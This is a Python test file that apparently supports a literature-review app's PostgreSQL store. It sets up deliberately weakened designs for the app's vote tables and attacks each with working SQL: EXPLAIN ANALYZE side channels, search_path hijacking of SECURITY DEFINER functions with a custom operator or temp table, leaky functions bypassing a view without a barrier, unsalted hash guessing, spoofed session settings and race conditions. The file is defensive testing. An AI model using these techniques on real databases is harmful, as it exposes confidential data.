"""The siege's own proof: designs a little weaker than ours give the votes away, to the same judge."""

from collections.abc import Iterator
from hashlib import sha256
from typing import Any

import psycopg
import pytest

from litreview.model.events import Verdict
from tests.store.postgres.cluster import Cluster
from tests.store.postgres.siege import Attacker, Siege, begin, leaks

_TABLE = """
create schema weak;
grant usage on schema weak to public;
create table weak.vote (event text, record text, actor text, verdict text, reason text, hash text);
create table weak.revealed (event text);
insert into weak.vote select id, record, actor, convert_from(payload, 'UTF8')::jsonb ->> 'verdict',
  convert_from(payload, 'UTF8')::jsonb ->> 'reason',
  encode(sha256(convert_to(id || (convert_from(payload, 'UTF8')::jsonb ->> 'verdict'), 'UTF8')), 'hex')
  from litreview.event where kind = 'vote';
analyze weak.vote;
"""
_RLS = """
grant select on weak.vote to public;
alter table weak.vote enable row level security;
create policy own on weak.vote using (actor = split_part(session_user, '_', 2));
"""
_DEFINER = """
create function weak.seen() returns setof weak.vote language plpgsql security definer {settings} as $$
begin
  return query select * from weak.vote v where {condition};
end $$;
"""


@pytest.fixture
def siege(cluster: Cluster) -> Iterator[Siege]:
    review = cluster.new_review()
    made = begin(review)
    made.superuser.execute(_TABLE.encode())
    yield made
    review.close()


def weaken(siege: Siege, script: str) -> Attacker:
    """Add the weak design to the database; return who attacks it."""
    siege.superuser.execute(script.encode())
    return siege.attacker("second")


def test_the_judge_finds_nothing_where_nothing_was_heard(siege: Siege) -> None:
    attacker = weaken(siege, _RLS)
    attacker.say("select * from weak.vote")
    assert leaks(attacker) == []


def test_row_level_security_alone_tells_by_explain_analyze(siege: Siege) -> None:
    attacker = weaken(siege, _RLS + "create index on weak.vote (record, verdict);")
    attacker.say("set enable_seqscan = off")
    for secret in siege.secrets:
        for verdict in Verdict:
            plan = attacker.say(
                "explain analyze select from weak.vote"
                f" where record = '{secret.record}' and verdict = '{verdict}'"
            )
            if any("Rows Removed by Filter" in row[0] for row in plan):
                attacker.claims[secret.record] = verdict.value
    assert len(leaks(attacker)) == len(siege.secrets)


def test_a_definer_without_search_path_is_fooled_by_a_table_of_ones_own(siege: Siege) -> None:
    script = _DEFINER.format(settings="", condition="exists (select from revealed r where r.event = v.event)")
    attacker = weaken(
        siege, script + f"grant temporary on database {siege.review.address.database} to public;"
    )
    attacker.say("create temp table revealed as select id as event from litreview.events_after(0)")
    attacker.say("grant select on revealed to public")
    attacker.say("select * from weak.seen()")
    assert leaks(attacker)


def test_current_user_in_a_definer_is_the_owner_whoever_asks(siege: Siege) -> None:
    attacker = weaken(
        siege, _DEFINER.format(settings="set search_path = pg_catalog", condition="current_user = 'admin'")
    )
    attacker.say("select * from weak.seen()")
    assert leaks(attacker)


def test_a_user_set_by_the_session_is_whoever_the_session_says(siege: Siege) -> None:
    attacker = weaken(
        siege, _RLS.replace("split_part(session_user, '_', 2)", "current_setting('app.person', true)")
    )
    attacker.say("set app.person = 'first'")
    attacker.say("select * from weak.vote")
    assert leaks(attacker)


def test_a_hash_without_chance_in_it_is_guessed(siege: Siege) -> None:
    attacker = weaken(siege, "grant select (event, record, hash) on weak.vote to public")
    for event, record, told in attacker.say("select event, record, hash from weak.vote"):
        for verdict in Verdict:
            if sha256(f"{event}{verdict}".encode()).hexdigest() == told:
                attacker.claims[record] = verdict.value
    assert len(leaks(attacker)) == len(siege.secrets)


def test_a_view_without_a_barrier_hands_rows_to_a_function_of_ones_own(siege: Siege) -> None:
    attacker = weaken(
        siege,
        "create view weak.mine as select * from weak.vote where actor = split_part(session_user, '_', 2);"
        "grant select on weak.mine to public;"
        f"create schema evil authorization {siege.review.address.database}_second;",
    )
    attacker.say(
        "create function evil.told(text) returns boolean language plpgsql cost 0.0000001 as"
        " $$ begin raise notice '%', $1; return true; end $$"
    )
    attacker.say("select * from weak.mine where evil.told(reason)")
    assert leaks(attacker)


def test_an_operator_of_ones_own_is_called_where_the_path_is_not_fixed(siege: Siege) -> None:
    attacker = weaken(
        siege,
        _DEFINER.format(settings="", condition="v.reason = 'x'")
        + f"create schema evil authorization {siege.review.address.database}_second;",
    )
    attacker.say(
        "create function evil.same(text, text) returns boolean language plpgsql as"
        " $$ begin raise notice '%', $1; return true; end $$"
    )
    attacker.say("create operator evil.= (leftarg = text, rightarg = text, function = evil.same)")
    attacker.say("grant usage on schema evil to public")
    attacker.say("set search_path = evil, pg_catalog")
    attacker.say("select * from weak.seen()")
    assert leaks(attacker)


def test_a_policy_that_reads_its_own_table_cannot_be_used(siege: Siege) -> None:
    attacker = weaken(
        siege,
        _RLS.replace("(actor =", "(exists (select from weak.vote o where o.actor = actor) and actor ="),
    )
    assert attacker.refused("select * from weak.vote") == "42P17"  # it goes on without end


def test_plans_sent_to_the_client_tell_what_a_variable_holds(siege: Siege) -> None:
    attacker = weaken(
        siege,
        "create function weak.same() returns bigint language plpgsql security definer"
        " set search_path = pg_catalog as $$ declare one text; hits bigint; begin"
        " for one in select v.reason from weak.vote v loop"
        " select count(*) into hits from weak.vote w where w.reason = one; end loop; return hits; end $$",
    )
    attacker.say("set debug_print_plan = on")
    attacker.say("set client_min_messages = log")
    attacker.say("select weak.same()")
    assert leaks(attacker)  # a constant of a plan, byte by byte


def test_a_reveal_that_counts_before_it_is_committed_can_be_taken_back_unseen(siege: Siege) -> None:
    attacker = weaken(
        siege,
        _DEFINER.format(
            settings="set search_path = pg_catalog",
            condition="exists (select from weak.revealed r where r.event = v.event)",
        )
        + "create function weak.reveal() returns void language sql security definer as"
        " $$ insert into weak.revealed select event from weak.vote $$;",
    )
    attacker.say("begin")
    attacker.say("select weak.reveal()")
    attacker.say("select * from weak.seen()")
    attacker.say("rollback")
    assert leaks(attacker)
    assert siege.superuser.execute("select from weak.revealed").fetchall() == []


_VOTING = """
create function weak.cast_vote(which text) returns void language plpgsql security definer as $$
begin
  {lock}
  if exists (select from weak.revealed r where r.event = which) then raise exception 'closed'; end if;
  {meanwhile}
  insert into weak.vote (event, actor) values (which, session_user);
end $$;
"""


def test_without_a_lock_a_vote_slips_in_beside_the_reveal(siege: Siege) -> None:
    """The vote waits, after it has looked, for a moment that the reveal uses."""
    attacker = weaken(siege, _VOTING.format(lock="", meanwhile="perform pg_advisory_xact_lock(7);"))
    lead = siege.superuser
    lead.execute("select pg_advisory_lock(7)")
    attacker.connection.pgconn.send_query(b"select weak.cast_vote('one')")
    _wait_until_somebody_waits(lead)
    lead.execute("insert into weak.revealed values ('one')")
    lead.execute("select pg_advisory_unlock(7)")
    while attacker.connection.pgconn.get_result():
        pass
    assert _voted_after_reveal(lead)


def test_a_look_at_an_older_moment_votes_after_the_reveal_in_spite_of_a_lock(siege: Siege) -> None:
    attacker = weaken(siege, _VOTING.format(lock="perform pg_advisory_xact_lock(7);", meanwhile=""))
    attacker.say("begin isolation level repeatable read")
    attacker.say("select 1")
    siege.superuser.execute("insert into weak.revealed values ('one')")
    attacker.say("select weak.cast_vote('one')")
    attacker.say("commit")
    assert _voted_after_reveal(siege.superuser)


def _voted_after_reveal(superuser: "psycopg.Connection[Any]") -> bool:
    found = superuser.execute(
        "select from weak.vote v join weak.revealed r on r.event = v.event where v.record is null"
    )
    return bool(found.fetchall())


def _wait_until_somebody_waits(superuser: "psycopg.Connection[Any]") -> None:
    for _ in range(100_000):
        if superuser.execute("select from pg_locks where locktype = 'advisory' and not granted").fetchall():
            return
    raise AssertionError
